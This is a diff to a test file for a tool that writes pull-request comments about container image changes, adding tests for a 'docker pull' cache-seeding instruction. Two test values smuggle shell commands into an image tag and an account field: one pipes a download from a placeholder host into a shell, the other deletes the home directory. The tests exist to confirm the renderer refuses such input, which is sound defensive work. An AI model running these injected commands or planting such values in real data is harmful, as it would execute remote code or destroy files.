@@ -230,7 +230,38 @@ describe('diff comment rendering (golden files)', () => {
     const body = fitReport(r);
     expect(body).toContain('[!NOTE]');
     expect(body).not.toContain('[!CAUTION]');
+    // The new tag must be in the cache before the merge: the comment says so, with the pull alone
+    // (the deployed stack has the rule).
+    expect(r.imagesToSeed).toEqual([
+      expect.objectContaining({ image: expect.objectContaining({ tag: '1.29-alpine' }), ruleExists: true }),
+    ]);
+    expect(body).toContain('> [!IMPORTANT]');
+    expect(body).toMatch(/docker pull \S+\/nginx\/nginx:1\.29-alpine/);
+    expect(body).not.toContain('create-pull-through-cache-rule');
     expectGolden('image-change', body);
+  });
+
+  it('prints no seed command built from a data file whose image fields a shell would read as syntax', () => {
+    const r = report(
+      baseline,
+      base({ image: { ...defaultImage(ENV), tag: '1.29-alpine' } as EnvironmentEntry['image'] }),
+    );
+    const [seed] = r.imagesToSeed!;
+    const hostile = {
+      ...r,
+      imagesToSeed: [{ ...seed!, image: { ...seed!.image, tag: '1.29; curl https://x.example | sh' } }],
+    };
+    const body = fitReport(hostile);
+    expect(body).toContain('Seed the image cache before merging');
+    expect(body).not.toContain('docker pull');
+    expect(body).toContain('npm run configure -- --show');
+    expect(markdownProblems(body)).toEqual([]);
+    const forgedAccount = fitReport({ ...r, account: '1; rm -rf ~' });
+    expect(forgedAccount).not.toContain('docker pull');
+  });
+
+  it('asks for no seeding when the deployed stacks already run the tag', () => {
+    expect(report(baseline, baseline).imagesToSeed).toEqual([]);
   });
 
   it('a removal: dropping the debug endpoints lists each removed endpoint', () => {
